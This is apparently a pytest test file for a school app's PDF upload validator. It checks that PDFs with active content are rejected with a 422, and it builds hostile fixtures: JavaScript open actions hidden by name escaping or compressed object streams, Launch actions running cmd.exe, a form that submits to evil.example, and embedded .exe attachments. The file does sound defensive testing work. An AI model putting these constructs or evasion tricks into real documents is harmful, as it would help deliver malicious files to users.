"""Uploaded PDFs are parsed, not grepped: active content is refused however it is spelled or packed.

Every malicious PDF here is a real one (built by hand as bytes, or with pikepdf for
compressed object streams and encryption), and each is checked both as a pure function
(``files.check_pdf``) and through ``POST /api/media``, which answers 422
``validation_error`` and stores nothing.
"""

from __future__ import annotations

import io

import httpx
import pikepdf
import pytest
from sqlalchemy import func, select

from server.db.models import Media
from server.errors import ApiError
from server.media import files
from server.services import Services
from tests.factories import World, error_of, pdf_bytes, upload

JS = "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"


def _pikepdf_bytes(*, open_action: dict[str, object] | None = None, **save: object) -> bytes:
    """A one-page PDF written by pikepdf (qpdf), optionally with an open action."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(200, 200))
    if open_action is not None:
        document.Root.OpenAction = pikepdf.Dictionary(open_action)
    out = io.BytesIO()
    document.save(out, **save)  # type: ignore[arg-type]
    return out.getvalue()


def _compressed_script() -> bytes:
    """JavaScript inside a compressed object stream: no byte of the file spells it."""
    data = _pikepdf_bytes(
        open_action={"/S": pikepdf.Name.JavaScript, "/JS": pikepdf.String("app.alert(1)")},
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
        compress_streams=True,
    )
    assert b"JavaScript" not in data and b"app.alert" not in data
    return data


def _password_protected() -> bytes:
    return _pikepdf_bytes(encryption=pikepdf.Encryption(user="secret", owner="owner-secret"))


def _reason(data: bytes) -> str | None:
    try:
        files.check_pdf(io.BytesIO(data), len(data))
    except ApiError as exc:
        return str(exc.details["fields"]["file"])
    return None


ACTIVE = {
    "name-escaped JavaScript name tree": pdf_bytes(
        catalog="/Names << /J#61vaScript << /Names [(x) << /S /J#61vaScript /J#53 (app.alert(1)) >>] >> >>"
    ),
    "name-escaped JavaScript open action": pdf_bytes(
        catalog="/OpenAction << /S /J#61va#53cript /J#53 (x) >>"
    ),
    "open action with a URI": pdf_bytes(catalog="/OpenAction << /S /URI /URI (https://evil.example/) >>"),
    "indirect open action that launches": pdf_bytes(
        catalog="/OpenAction 5 0 R", extra=("<< /Type /Action /S /Launch /F (cmd.exe) >>",)
    ),
    "page additional actions": pdf_bytes(page="/AA << /O << /S /JavaScript /JS (app.alert(1)) >> >>"),
    "additional actions that only move": pdf_bytes(page="/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>"),
    "catalog additional actions": pdf_bytes(catalog="/AA << /WC << /S /URI /URI (https://x.example/) >> >>"),
    "link annotation to a local file": pdf_bytes(
        page="/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 50 50]"
        " /A << /S /URI /URI (file:///C:/Windows/System32/cmd.exe) >> >>]"
    ),
    "link annotation that launches": pdf_bytes(
        page="/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /Launch /F (cmd.exe) >> >>]"
    ),
    "web link followed by a script": pdf_bytes(
        page="/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 50 50]"
        " /A << /S /URI /URI (https://example.org/) /Next << /S /JavaScript /JS (x) >> >> >>]"
    ),
    "web link action reused as the open action": pdf_bytes(
        catalog="/OpenAction 5 0 R",
        page="/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A 5 0 R >>]",
        extra=("<< /S /URI /URI (https://evil.example/) >>",),
    ),
    "a GoTo followed by a script": pdf_bytes(
        catalog="/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >>"
    ),
    "link to another file": pdf_bytes(catalog="/OpenAction << /S /GoToR /F (other.pdf) /D [0 /Fit] >>"),
    "form that submits": pdf_bytes(
        catalog="/AcroForm << /Fields [5 0 R] >>",
        extra=("<< /FT /Btn /T (send) /A << /S /SubmitForm /F (https://evil.example/) >> >>",),
    ),
    "form that imports data": pdf_bytes(catalog="/OpenAction << /S /ImportData /F (data.fdf) >>"),
    "XFA form": pdf_bytes(
        catalog="/AcroForm << /Fields [] /XFA 5 0 R >>",
        extra=("<< /Length 6 >>\nstream\n<xdp/>\nendstream",),
    ),
    "attached file": pdf_bytes(
        catalog="/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe)"
        " /EF << /F 5 0 R >> >>] >> >>",
        extra=("<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",),
    ),
    "file attachment annotation": pdf_bytes(
        page="/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS (a.exe) >>]"
    ),
    "rich media annotation": pdf_bytes(
        page="/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]"
    ),
    "JavaScript in a compressed object stream": _compressed_script(),
}

DAMAGED = {
    "truncated": pdf_bytes()[:-40],
    "cross-reference offset wrong": pdf_bytes().replace(b"startxref\n", b"startxref\n9"),
    "header and end only": b"%PDF-1.4\n%%EOF\n",
    "header then garbage": b"%PDF-1.7\n" + b"\x00\xff" * 500,
}

CLEAN = {
    "plain letter": pdf_bytes(),
    "letter that mentions /JavaScript in its text": pdf_bytes("Our /JavaScript club meets on Friday"),
    "opens at the first page": pdf_bytes(catalog="/OpenAction [3 0 R /Fit]"),
    "opens with a GoTo action": pdf_bytes(catalog="/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
    "newsletter linking to a web page": pdf_bytes(
        page="/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 50 50]"
        " /A << /S /URI /URI (https://www.riverside.example/term-dates) >> >>]"
    ),
    "letter with an email link": pdf_bytes(
        page="/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 50 50]"
        " /A << /S /URI /URI (mailto:office@riverside.example) >> >>]"
    ),
    "link within the document": pdf_bytes(
        page="/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /GoTo /D [3 0 R /Fit] >> >>]"
    ),
    "written by qpdf with object streams": _pikepdf_bytes(
        object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True
    ),
}


@pytest.mark.parametrize("data", ACTIVE.values(), ids=ACTIVE.keys())
def test_pdfs_with_active_content_are_refused(data: bytes) -> None:
    assert _reason(data) == "pdf_active"


@pytest.mark.parametrize("data", DAMAGED.values(), ids=DAMAGED.keys())
def test_pdfs_that_do_not_parse_are_refused_as_damaged(data: bytes) -> None:
    assert _reason(data) == "damaged_pdf"


def test_password_protected_pdfs_are_refused() -> None:
    assert _reason(_password_protected()) == "encrypted_pdf"


@pytest.mark.parametrize("data", CLEAN.values(), ids=CLEAN.keys())
def test_clean_pdfs_pass(data: bytes) -> None:
    assert _reason(data) is None


def test_the_refusal_names_what_was_found() -> None:
    data = ACTIVE["open action with a URI"]
    with pytest.raises(ApiError) as refused:
        files.check_pdf(io.BytesIO(data), len(data))
    assert (refused.value.status, refused.value.code) == (422, "validation_error")
    assert refused.value.details["found"] == "a link to a website (/URI)"
    assert "link to a website" in refused.value.message


async def _media_count(services: Services, school_id: int) -> int:
    async with services.read() as session:
        return int(await session.scalar(select(func.count()).where(Media.school_id == school_id)) or 0)


async def test_uploads_of_active_pdfs_get_422_and_store_nothing(api: httpx.AsyncClient, world: World) -> None:
    for name in (
        "name-escaped JavaScript name tree",
        "open action with a URI",
        "page additional actions",
        "JavaScript in a compressed object stream",
    ):
        error = error_of(
            await upload(api, world.teacher, ACTIVE[name], name="letter.pdf"), 422, "validation_error"
        )
        assert error["details"]["fields"] == {"file": "pdf_active"}, name
    for data in (DAMAGED["truncated"], _password_protected()):
        error_of(await upload(api, world.teacher, data, name="letter.pdf"), 422, "validation_error")
    assert await _media_count(world.services, world.school.id) == 0


async def test_a_clean_pdf_is_stored_as_written_from_what_was_checked(
    api: httpx.AsyncClient, world: World
) -> None:
    # A script in an object nothing refers to: not part of the document, and not kept either.
    data = pdf_bytes(extra=("<< /S /JavaScript /JS (app.alert(1)) >>",))
    reply = await upload(api, world.teacher, data, name="Trip letter.pdf")
    assert reply.status_code == 201, reply.text
    body = reply.json()
    served = await api.get(body["url"], headers=world.teacher.headers)
    assert served.status_code == 200 and served.headers["content-type"] == "application/pdf"
    assert b"JavaScript" not in served.content and body["size"] == len(served.content)
    with pikepdf.open(io.BytesIO(served.content)) as document:
        assert len(document.pages) == 1
        assert b"School trip letter" in document.pages[0].Contents.read_bytes()


def test_an_object_reached_first_as_data_and_then_as_an_action_is_judged_as_an_action() -> None:
    # Object 5 is listed under /Zz (walked first, as plain data), then used as the open action.
    named = "<< /S /Named /N /Print >>"
    assert _reason(pdf_bytes(catalog="/OpenAction 5 0 R", extra=(named,))) == "pdf_active"
    assert _reason(pdf_bytes(catalog="/OpenAction 5 0 R /Zz [5 0 R]", extra=(named,))) == "pdf_active"
